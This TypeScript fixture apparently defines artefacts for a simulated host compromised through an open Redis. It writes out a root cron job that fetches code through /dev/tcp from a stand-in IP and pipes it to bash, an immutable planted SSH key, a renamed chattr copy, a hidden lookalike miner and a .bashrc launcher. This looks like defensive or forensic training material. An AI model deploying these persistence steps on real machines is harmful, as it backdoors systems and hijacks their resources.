import { type Infection, miner, minerWords } from '../host-part.ts'
import { loginKey } from '../login-key.ts'

const rdb = (text: string) => `REDIS0009\u0001redis-ver\u00055.0.7\u0001\u0006a1\n\n${text}\n\n\u0001end`

/** Written through an open Redis; fetches without curl. */
export const openRedis: Infection = {
  family: 'open-redis',
  known: false,
  title: 'Written by a Redis that anybody could write to',
  story: [
    'The crontab of root and its keys are dumps of Redis.',
    'The job fetches through /dev/tcp. Tools have copies under other names.',
  ],
  items: [
    {
      kind: 'file',
      path: '/var/spool/cron/crontabs/root',
      content: { text: rdb('*/2 * * * * exec 3<>/dev/tcp/198.51.100.66/80; printf "GET /i" >&3; cat <&3 | bash') },
      mode: 0o600,
    },
    {
      kind: 'line',
      path: '/root/.ssh/authorized_keys2',
      text: loginKey('ssh-rsa', 'open redis', 'redis@crack'),
      mode: 0o600,
      attributes: 'i',
    },
    { kind: 'file', path: '/usr/bin/chatr', content: { copyOf: '/usr/bin/chattr' }, mode: 0o755 },
    { kind: 'directory', path: '/var/tmp/.pulse-0' },
    {
      kind: 'file',
      path: '/var/tmp/.pulse-0/pulsed',
      content: { lookalike: miner, words: `${minerWords}\nopen redis` },
      mode: 0o755,
    },
    { kind: 'line', path: '/root/.bashrc', text: '/var/tmp/.pulse-0/pulsed -B 2>/dev/null' },
  ],
}
